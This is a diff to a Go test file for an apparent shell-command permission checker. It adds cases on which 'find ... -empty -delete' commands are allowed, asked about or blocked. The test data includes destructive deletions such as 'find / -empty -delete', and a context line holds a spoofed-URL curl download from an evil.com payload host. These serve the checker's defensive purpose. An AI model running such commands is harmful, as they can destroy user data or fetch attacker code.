@@ -42,3 +42,23 @@ func TestFix51(t *testing.T) {
 		{"curl http://github.com@evil.com/payload", dsl.Ask, dsl.Ask},
 	})
 }
+
+// TestFix51Find: find deleting what is empty below the directory loses
+// nothing (find src -type d -empty -delete was asked); from the directory
+// itself it may take .git's empty refs/heads, which git needs, so that
+// stays asked, as do objects and logs (a project may track them).
+func TestFix51Find(t *testing.T) {
+	checkHoles(t, []holeCase{
+		{"find src -type d -empty -delete", dsl.Allow, dsl.Allow}, // was asked
+		{"find build tmp -empty -delete", dsl.Allow, dsl.Allow},   // was asked
+		{"find . -type d -empty -delete", dsl.Ask, dsl.Ask},
+		{"find -empty -delete", dsl.Ask, dsl.Ask},
+		{"find src .git -type d -empty -delete", dsl.Ask, dsl.Ask},
+		{"find src/.. -empty -delete", dsl.Ask, dsl.Ask},
+		{"find src ! -empty -delete", dsl.Ask, dsl.Ask},
+		{"find src -type d -empty -o -name x -delete", dsl.Ask, dsl.Ask},
+		{"find ~ -type d -empty -delete", dsl.Ask, dsl.Ask},
+		{"find / -empty -delete", dsl.Block, dsl.Block},
+		{"find . -name '*.o' -delete", dsl.Ask, dsl.Ask},
+	})
+}
